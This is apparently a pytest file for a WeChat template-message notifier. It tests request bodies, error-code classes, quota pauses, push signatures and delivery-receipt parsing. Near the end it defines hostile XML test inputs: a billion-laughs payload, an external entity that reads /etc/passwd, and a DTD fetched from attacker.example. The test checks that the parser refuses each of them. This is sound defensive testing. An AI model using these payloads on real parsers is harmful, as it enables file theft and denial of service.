"""The WeChat template-message adapter's pure parts: the request it builds, what each of
WeChat's answers means, how long a spent daily quota pauses the channel, and the signed
``TEMPLATESENDJOBFINISH`` push (hostile XML refused). No I/O."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from services.notifier.providers.base import Failure, Outgoing
from services.notifier.providers.wechat import (
    PUSH_REPLY,
    BadPush,
    WeChatTemplate,
    http_outcome,
    mask_openid,
    parse_receipt,
    push_signature,
    seconds_to_next_minute,
    seconds_to_shanghai_midnight,
    send_body,
    send_outcome,
    verify_push,
)

OPENID = "oaw_J50-PJmPUkxlnUhxOlqNLfFA"   # the shape of a real openid: 28 characters
NOON_UTC = datetime(2026, 1, 20, 4, 0, tzinfo=UTC)  # 12:00 in Shanghai


def receipt_xml(status: str, *, event: str = "TEMPLATESENDJOBFINISH",
                msg_type: str = "event", msgid: str = "200163836") -> bytes:
    return (
        "<xml><ToUserName><![CDATA[gh_0123456789ab]]></ToUserName>"
        f"<FromUserName><![CDATA[{OPENID}]]></FromUserName>"
        "<CreateTime>1395658920</CreateTime>"
        f"<MsgType><![CDATA[{msg_type}]]></MsgType>"
        f"<Event><![CDATA[{event}]]></Event>"
        f"<MsgID>{msgid}</MsgID>"
        f"<Status><![CDATA[{status}]]></Status></xml>"
    ).encode()


# --- the request -------------------------------------------------------------------------


def test_the_body_carries_our_message_id_as_client_msg_id_and_each_param_as_a_value() -> None:
    message = Outgoing(message_id="notify-ord-1-shipped-wechat", recipient=OPENID,
                       template="tpl-order-shipped",
                       params={"character_string1": "W-20260120-0001", "thing2": "已发货"},
                       url="https://shop.example.cn/orders/1")
    assert send_body(message) == {
        "touser": OPENID,
        "template_id": "tpl-order-shipped",
        "client_msg_id": "notify-ord-1-shipped-wechat",
        "url": "https://shop.example.cn/orders/1",
        "data": {"character_string1": {"value": "W-20260120-0001"},
                 "thing2": {"value": "已发货"}},
    }


def test_a_message_without_a_link_sends_no_url() -> None:
    body = send_body(Outgoing(message_id="m1", recipient=OPENID, template="t", params={}))
    assert "url" not in body and body["data"] == {}


def test_the_client_is_the_wechat_provider_and_has_nothing_to_query() -> None:
    client = WeChatTemplate("http://127.0.0.1:1", "wx-app", "secret")
    assert (client.name, client.channel, client.timeout) == ("wechat", "wechat", 5.0)


async def test_query_returns_none_for_wechat_has_no_lookup() -> None:
    client = WeChatTemplate("http://127.0.0.1:1", "wx-app", "secret")
    message = Outgoing(message_id="m1", recipient=OPENID)
    assert await client.query(message, "200163836", NOON_UTC) is None
    await client.close()


# --- the answer --------------------------------------------------------------------------


def test_an_ok_answer_is_accepted_with_the_msgid_as_text() -> None:
    result = send_outcome({"errcode": 0, "errmsg": "ok", "msgid": 200228332}, NOON_UTC)
    assert result.accepted and result.failure is None
    assert result.provider_message_id == "200228332" and not result.delivered


@pytest.mark.parametrize(("errcode", "failure"), [
    (43004, Failure.BAD_RECIPIENT),   # require subscribe: fall back to another channel
    (40003, Failure.BAD_RECIPIENT),   # invalid openid
    (43019, Failure.BAD_RECIPIENT),   # the account blacklisted the user
    (45009, Failure.QUOTA),           # daily quota spent
    (45011, Failure.THROTTLED),       # per-minute limit
    (40037, Failure.CONFIG),          # invalid template_id
    (40001, Failure.CONFIG),          # (only seen here after the one retry with a new token)
    (42001, Failure.CONFIG),
    (48001, Failure.CONFIG),          # api unauthorized
    (47003, Failure.CONTENT),         # argument invalid: a data field
    (47001, Failure.CONTENT),         # data format error
    (-1, Failure.TRANSIENT),          # system busy
    (99999, Failure.CONFIG),          # a code we do not know needs a person
])
def test_each_errcode_has_its_class(errcode: int, failure: Failure) -> None:
    result = send_outcome({"errcode": errcode, "errmsg": "x rid: 1-2-3"}, NOON_UTC)
    assert not result.accepted
    assert (result.code, result.failure) == (str(errcode), failure)
    assert result.detail == "x rid: 1-2-3"


def test_the_errcode_may_come_as_text() -> None:
    assert send_outcome({"errcode": "43004", "errmsg": "require subscribe"},
                        NOON_UTC).failure is Failure.BAD_RECIPIENT


@pytest.mark.parametrize("answer", [["not", "an", "object"], {"msgid": 1}, {"errcode": 0}])
def test_an_answer_that_is_not_wechats_is_unknown(answer: object) -> None:
    # HTTP 200 but no verdict: the message may have gone out, so it is not "transient".
    result = send_outcome(answer, NOON_UTC)
    assert not result.accepted and result.failure is Failure.UNKNOWN


@pytest.mark.parametrize(("status", "failure"), [
    (500, Failure.TRANSIENT), (502, Failure.TRANSIENT), (503, Failure.TRANSIENT),
    (429, Failure.THROTTLED), (404, Failure.CONFIG), (403, Failure.CONFIG),
])
def test_http_errors_have_their_class(status: int, failure: Failure) -> None:
    result = http_outcome(status)
    assert (result.code, result.failure, result.accepted) == (f"http_{status}", failure, False)


# --- quota pauses ------------------------------------------------------------------------


@pytest.mark.parametrize(("now", "seconds"), [
    (datetime(2026, 1, 20, 15, 30, tzinfo=UTC), 1800.0),     # 23:30 in Shanghai
    (datetime(2026, 1, 20, 16, 0, tzinfo=UTC), 86_400.0),    # 00:00 there: a whole day
    (datetime(2026, 1, 20, 0, 0, tzinfo=UTC), 57_600.0),     # 08:00 there
    (datetime(2026, 1, 20, 15, 59, 59, 500_000, tzinfo=UTC), 1.0),  # never below 1 s
])
def test_a_spent_quota_pauses_until_the_next_midnight_in_shanghai(now: datetime,
                                                                  seconds: float) -> None:
    assert seconds_to_shanghai_midnight(now) == seconds
    result = send_outcome({"errcode": 45009, "errmsg": "reach max api daily quota limit"}, now)
    assert result.failure is Failure.QUOTA and result.retry_after == seconds


def test_the_minute_limit_pauses_until_the_next_minute() -> None:
    now = datetime(2026, 1, 20, 4, 0, 45, tzinfo=UTC)
    assert seconds_to_next_minute(now) == 15.0
    result = send_outcome({"errcode": 45011, "errmsg": "api minute-quota reach limit"}, now)
    assert result.failure is Failure.THROTTLED and result.retry_after == 15.0


def test_other_failures_carry_no_pause() -> None:
    for errcode in (-1, 43004, 40037, 47003):
        assert send_outcome({"errcode": errcode}, NOON_UTC).retry_after is None


# --- the push's signature ----------------------------------------------------------------


def test_the_push_signature_is_sha1_of_the_sorted_parts() -> None:
    # Worked by hand: sorted("1234567890", "1700000000", "orderstream-push"), joined, sha1.
    expected = "666edd31b95df68b1c8d8e00fc6f6e2a1b42a148"
    assert push_signature("orderstream-push", "1700000000", "1234567890") == expected
    assert verify_push("orderstream-push", expected, "1700000000", "1234567890")
    assert verify_push("orderstream-push", expected.upper(), "1700000000", "1234567890")


@pytest.mark.parametrize(("token", "signature", "timestamp", "nonce"), [
    ("other-token", "666edd31b95df68b1c8d8e00fc6f6e2a1b42a148", "1700000000", "1234567890"),
    ("orderstream-push", "666edd31b95df68b1c8d8e00fc6f6e2a1b42a148", "1700000001",
     "1234567890"),
    ("orderstream-push", "not-a-signature", "1700000000", "1234567890"),
    ("orderstream-push", None, "1700000000", "1234567890"),
    ("orderstream-push", "666edd31b95df68b1c8d8e00fc6f6e2a1b42a148", None, "1234567890"),
    ("orderstream-push", "666edd31b95df68b1c8d8e00fc6f6e2a1b42a148", "1700000000", ""),
    ("", push_signature("", "1700000000", "1234567890"), "1700000000", "1234567890"),
    ("orderstream-push", "签名", "1700000000", "1234567890"),
])
def test_a_push_not_signed_with_our_token_is_refused(token: str, signature: str | None,
                                                     timestamp: str | None,
                                                     nonce: str | None) -> None:
    assert verify_push(token, signature, timestamp, nonce) is False


def test_the_push_reply_is_success() -> None:
    assert PUSH_REPLY == "success"


# --- the receipt -------------------------------------------------------------------------


def test_a_success_receipt_is_delivered() -> None:
    receipt = parse_receipt(receipt_xml("success"))
    assert receipt is not None
    assert (receipt.provider, receipt.provider_message_id) == ("wechat", "200163836")
    assert receipt.delivered and receipt.code == "success"
    assert receipt.recipient == OPENID
    assert receipt.at == datetime(2014, 3, 24, 11, 2, tzinfo=UTC)
    assert receipt.message_id is None  # WeChat does not echo client_msg_id


@pytest.mark.parametrize(("status", "detail"), [
    ("failed:user block", "refuses"),
    ("failed: system failed", "failed to deliver"),
    ("failed:freq limit", "failed:freq limit"),   # seen in the wild, not in the docs
])
def test_a_failed_receipt_is_not_delivered(status: str, detail: str) -> None:
    receipt = parse_receipt(receipt_xml(status))
    assert receipt is not None and not receipt.delivered
    assert receipt.code == status and detail in receipt.detail


def test_other_events_and_messages_are_not_receipts() -> None:
    assert parse_receipt(receipt_xml("", event="subscribe")) is None
    assert parse_receipt(receipt_xml("", msg_type="text", event="")) is None
    text = (b"<xml><ToUserName>gh_1</ToUserName><FromUserName>o1</FromUserName>"
            b"<CreateTime>1</CreateTime><MsgType>text</MsgType><Content>hi</Content>"
            b"<MsgId>1</MsgId></xml>")
    assert parse_receipt(text) is None


@pytest.mark.parametrize("body", [
    receipt_xml("success", msgid=""),
    receipt_xml(""),
    receipt_xml("success").replace(b"1395658920", b"yesterday"),
])
def test_a_receipt_without_its_fields_is_refused(body: bytes) -> None:
    with pytest.raises(BadPush):
        parse_receipt(body)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<xml><MsgType>event</MsgType><Event>TEMPLATESENDJOBFINISH</Event><MsgID>1</MsgID>
<Status>&lol3;</Status><CreateTime>1</CreateTime></xml>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<xml><MsgType>event</MsgType><Event>TEMPLATESENDJOBFINISH</Event><MsgID>1</MsgID>
<Status>&secret;</Status><CreateTime>1</CreateTime></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><MsgType>event</MsgType></xml>"""


@pytest.mark.parametrize("body", [
    BILLION_LAUGHS,
    EXTERNAL_ENTITY,
    EXTERNAL_DTD,
    b"<xml><MsgType>&undeclared;</MsgType></xml>",      # no DOCTYPE: nothing is declared
    b"<xml><MsgType>event</MsgType>",                   # cut short
    b"<html><MsgType>event</MsgType></html>",           # not WeChat's root
    b"not xml at all",
    b"",
    b"<xml><Status>" + b"x" * 70_000 + b"</Status></xml>",  # far over any real receipt
])
def test_hostile_or_broken_xml_is_refused(body: bytes) -> None:
    with pytest.raises(BadPush):
        parse_receipt(body)


def test_openids_are_masked_in_logs() -> None:
    assert mask_openid(OPENID) == "oaw_***"
    assert mask_openid("ab") == "ab***"
